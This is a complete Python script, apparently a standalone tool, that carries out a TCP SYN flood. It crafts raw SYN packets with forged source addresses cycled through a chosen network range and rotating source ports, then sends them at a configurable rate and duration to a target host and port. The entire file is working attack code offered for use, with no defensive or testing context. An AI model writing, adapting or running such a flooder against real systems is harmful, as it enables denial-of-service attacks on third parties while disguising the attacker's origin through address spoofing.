#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR MIT
"""syn_flood.py ADDRESS PORT RATE SECONDS NETWORK: sends first packets of TCP connections that nobody will go on
with, so many a second, from the hosts of a network (a.b.c.d/length) in turn. Prints how many."""
import ipaddress
import itertools
import socket
import struct
import sys
import time

IPV4 = struct.Struct("!BBHHHBBH4s4s")
TCP = struct.Struct("!HHIIBBHHH")
SYN = 2


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def first_packet(source, destination, source_port, port, number):
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, TCP.size)
    fields = [source_port, port, number, 0, TCP.size // 4 << 4, SYN, 65535, 0, 0]
    fields[7] = checksum(pseudo + TCP.pack(*fields))
    header = IPV4.pack(0x45, 0, IPV4.size + TCP.size, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    return header + TCP.pack(*fields)


def main():
    address, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    hosts = itertools.cycle([host.packed for host in ipaddress.ip_network(sys.argv[5]).hosts()])
    destination = socket.inet_aton(address)
    begin, sent = time.monotonic(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while (elapsed := time.monotonic() - begin) < seconds:
            for _ in range(int(elapsed * rate) - sent):
                # Each time another connection: hosts and ports come round at different times.
                packet = first_packet(next(hosts), destination, 1024 + sent % 64511, port, sent)
                raw.sendto(packet, (address, 0))
                sent += 1
            time.sleep(0.002)
    print(sent, "first packets")


main()
